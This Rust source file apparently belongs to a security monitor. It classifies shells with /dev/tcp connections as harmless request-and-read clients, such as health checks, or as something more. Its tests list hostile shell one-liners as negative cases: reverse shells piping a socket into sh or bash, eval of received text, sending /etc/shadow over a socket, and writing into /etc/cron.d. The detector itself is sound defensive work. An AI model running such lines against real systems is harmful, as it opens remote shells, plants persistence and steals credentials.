//! Shells that ask a server something over `/dev/tcp` and read what it says, without running it: checks of health, and scripts
//! that send measurements.

use bstr::ByteSlice;

use super::super::Facts;
use super::super::facts::{Invocation, ProcessFacts};
use super::super::vocabulary::{is_hidden, is_world_writable};
use super::text::{Command, commands};

/// Longest text that is looked at.
const TEXT_MOST: usize = 4096;

/// Programs of such a text, which run nothing that they read.
const PLAIN: [&str; 22] = [
    "cat", "echo", "egrep", "exit", "false", "fgrep", "fi", "grep", "head", "kill", "printf", "read", "return", "set",
    "sleep", "tail", "test", "true", "wait", "wc", "[", "[[",
];

/// Whether a shell with a connection of its own (not its input, output or errors) only asks and reads: its commands run
/// nothing that arrives, or are a script of the image. What its arguments say is not enough: the shell is of the image, a
/// script is open in it, and nothing below it takes commands.
pub(in crate::analysis) fn is_plain_client(facts: &Facts<'_>, process: &ProcessFacts<'_>) -> bool {
    let is_own =
        |one: &ProcessFacts<'_>| !one.program.deleted && !one.is_program_suspicious() && !facts.is_program_new(one);
    let is_apart = (0..=2).all(|fd| facts.connection_at(process, fd).is_none());
    if !process.is_shell() || !is_apart || !is_own(process) {
        return false;
    }
    let asks = match process.invocation() {
        Some(Invocation::Inline(text)) => only_asks(&text),
        Some(Invocation::Script(_)) => process.script().is_some_and(|script| {
            let is_open = process.files().iter().any(|file| file.path.as_ref() == Some(&script));
            let is_of_image = facts.files().is_in_image(&script) && !is_world_writable(&script) && !is_hidden(&script);
            is_open && is_of_image
        }),
        _ => false,
    };
    asks && facts.descendants(process).into_iter().all(|below| {
        // Each part of a pipe was a copy of the shell first.
        let is_copy = below.is_shell() && below.program.path == process.program.path && below.argv() == process.argv();
        let takes = (0..=2).any(|fd| facts.connection_at(below, fd).is_some());
        is_own(below) && (is_copy && !takes || !below.is_shell() && !below.is_interpreter())
    })
}

/// Whether a text opens connections, writes fixed words to them and reads the answer, and does nothing else. What it may do is
/// listed, as there are many ways to run an answer.
fn only_asks(text: &[u8]) -> bool {
    text.len() <= TEXT_MOST && commands(text).iter().all(is_plain)
}

fn is_plain(command: &Command<'_>) -> bool {
    let mut words = command.words.as_slice();
    // `$r` as a word of its own would be run; and an index is computed, which runs what is in it.
    if words.iter().any(|word| word.contains(&b'[') && word.contains(&b'$')) {
        return false;
    }
    if let [b"if" | b"then" | b"else" | b"!", rest @ ..] = words {
        words = rest;
    }
    match words {
        [b"exec", rest @ ..] => return rest.iter().all(|word| is_redirection(word) == Some(true)),
        [b"timeout", _, rest @ ..] => words = rest,
        _ => {}
    }
    // `r=$(cat <&3)`: the commands of a line end at a parenthesis.
    while let [first, rest @ ..] = words {
        if !first.contains(&b'=') {
            break;
        }
        words = rest;
    }
    let Some((name, rest)) = words.split_first() else { return true };
    let is_known = PLAIN.iter().any(|plain| plain.as_bytes() == *name) || is_redirection(name) == Some(true);
    is_known && rest.iter().all(|word| is_redirection(word).unwrap_or_else(|| is_harmless(word, name)))
}

/// Whether a redirection leads to a connection or nowhere; nothing for another word.
fn is_redirection(word: &[u8]) -> Option<bool> {
    let at = word.find_byteset(b"<>")?;
    let (own, rest) = word.split_at_checked(at)?;
    let target = rest.trim_start_with(|c| matches!(c, '<' | '>'));
    let is_target = target.starts_with(b"/dev/tcp/") || target.starts_with(b"/dev/udp/") || target == b"/dev/null";
    let is_copied =
        target.strip_prefix(b"&").is_some_and(|fd| !fd.is_empty() && (fd == b"-" || fd.iter().all(u8::is_ascii_digit)));
    let is_short = rest.len().saturating_sub(target.len()) <= 2;
    Some(own.iter().all(u8::is_ascii_digit) && is_short && (is_target || is_copied))
}

/// Whether a word reads no file and computes nothing: `-v` names a variable, and `-eq` computes what it compares.
fn is_harmless(word: &[u8], name: &[u8]) -> bool {
    let is_option = word.starts_with(b"-") && !word.starts_with(b"--");
    let computes =
        is_option && (word.contains(&b'v') || matches!(word, b"-eq" | b"-ne" | b"-lt" | b"-gt" | b"-le" | b"-ge"));
    // For `read`, the letters mean something else.
    let searches = is_option && name != b"read" && word.iter().any(|&byte| matches!(byte, b'r' | b'R' | b'f'));
    let reads = word.contains(&b'/') || word.starts_with(b"~") || searches;
    !computes && (matches!(name, b"echo" | b"printf") || !reads)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checks_and_measurements_only_ask() {
        for text in [
            "exec 3<>/dev/tcp/10.88.0.2/9000; echo -e 'GET /health/ready HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; timeout 8 cat <&3 | grep -q UP",
            "exec 6<>/dev/tcp/10.88.0.2/2004; printf 'PING\\r\\n' >&6; read -r -t 8 -u 6 r; exec 6>&-",
            "exec 5<>/dev/tcp/127.0.0.1/5432; sleep 900",
            "exec 3<>/dev/tcp/db/5432 && exit 0 || exit 1",
            "exec 3<>/dev/tcp/db/1; r=$(head -n 1 <&3); [ \"$r\" = ok ]",
            "exec 3<>/dev/tcp/db/1; if grep -q UP <&3; then exit 0; fi",
        ] {
            assert!(only_asks(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn whatever_may_run_an_answer_does_more() {
        let after = [
            "eval \"$(cat <&5)\"",
            "cat <&5 | sh >&5 2>&5",
            "cat <&5 | while read l; do $l 2>&5 >&5; done",
            "while read l; do $l; done <&5",
            "read -u 5 r; $r",
            "read -u 5 r; \"$r\"",
            "read -u 5 r; timeout 5 $r",
            "read -u 5 r; exec $r",
            "read -u 5 r; a[$r]=1",
            "read -u 5 r; echo ${a[$r]}",
            "read -u 5 r; (( r ))",
            "read -u 5 r; [[ $r -eq 1 ]]",
            "read -u 5 r; printf -v \"$r\" x",
            "read -u 5 r; x=$r bash -c \"$r\"",
            ". /dev/fd/5",
            "source /dev/stdin <&5",
            "xargs -I{} sh -c {} <&5",
            "cat <&5 > /etc/cron.d/x",
            "cat <&5 >>x",
            "cat /etc/shadow >&5",
            "cat </etc/shadow >&5",
            "grep -r key etc >&5",
            "bash <&5 >&5",
            "exec <&5 bash",
            "python3 - <&5",
            "`cat <&5`; x",
        ];
        for text in after {
            let text = format!("exec 5<>/dev/tcp/10.0.0.1/443; {text}");
            assert!(!only_asks(text.as_bytes()), "{text}");
        }
    }
}
